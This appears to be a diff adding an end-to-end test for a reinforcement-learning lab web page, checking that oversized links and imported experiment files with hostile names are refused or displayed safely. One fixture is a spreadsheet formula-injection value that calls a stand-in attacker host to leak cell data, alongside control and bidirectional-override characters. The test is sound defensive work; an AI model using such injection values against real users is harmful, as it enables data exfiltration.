@@ -1,0 +1,67 @@
+import { deflateRawSync } from 'node:zlib';
+import { expect, phone, sidewaysScroll, test } from './fixtures.ts';
+import { LabFigure } from './pages/LabFigure.ts';
+
+/** An export of this page that nobody has looked through. */
+const exported = (name: string, meanReturn: number[]) =>
+  JSON.stringify({
+    format: 'reward-to-go experiments',
+    version: 1,
+    experiments: [
+      {
+        ...{ id: 'a', name, note: '', colour: 'one', isHidden: false, madeAt: 1, events: [] },
+        runs: [
+          {
+            phi: 'gae',
+            seed: 0,
+            meanReturn,
+            envSteps: [100, 100, 100],
+            episodes: [5, 5, 5],
+            seconds: [1, 2, 3],
+            details: [null, null, null],
+            phases: [{ phi: 'gae', from: 0 }],
+          },
+        ],
+      },
+    ],
+  });
+
+/** A link that is sound in all but its contents. */
+function linkTo(contents: string): string {
+  const packed = deflateRawSync(contents);
+  let sum = 0x811c9dc5;
+  for (const byte of packed) sum = Math.imul(sum ^ byte, 0x01000193);
+  const head = Buffer.alloc(4);
+  head.writeUInt32BE(sum >>> 0);
+  return `#x=1.${Buffer.concat([head, packed]).toString('base64url')}`;
+}
+
+test.use({ viewport: phone });
+
+test('a link with a key of a megabyte, and files with names and numbers that no page writes, are refused or shown visibly, and nothing stands out of the page', async ({
+  book,
+  page,
+}) => {
+  await book.open(`/lab/${linkTo(`{"${'x'.repeat(1_000_000)}":1}`)}`);
+  const lab = new LabFigure(page.locator('figure#lab'));
+  await lab.wake();
+  await expect(lab.alert).toContainText(
+    /It holds x{59}…, which nobody knows\. The lab is as it was/,
+  );
+  expect(await sidewaysScroll(page)).toBe(0);
+
+  await lab.openPanel();
+  await lab.import('huge.json', exported('huge', [1, 1.7e308, -1.7e308]));
+  await expect(lab.panel).toContainText('huge.json: Experiment 1 of 1 is broken');
+  for (const [name, shown] of [
+    ['ctl\u0001\b\ufffe', 'ctl␁␈\\u{fffe}'],
+    ['=HYPERLINK("http://evil.example/?"&A1)\nx', '=HYPERLINK("http://evil.example/?"&A1)␊x'],
+    ['\u202e'.repeat(180), '\\u{202e}'.repeat(24)],
+  ] as const) {
+    await lab.import('named.json', exported(name, [10, 11, 12]));
+    await expect(lab.history.filter({ hasText: shown })).toBeVisible();
+    expect(await sidewaysScroll(page)).toBe(0);
+  }
+  // the curves stand in the chart's table under their names
+  expect((await lab.data()).map(([experiment]) => experiment)).toContain('ctl␁␈\\u{fffe}');
+});
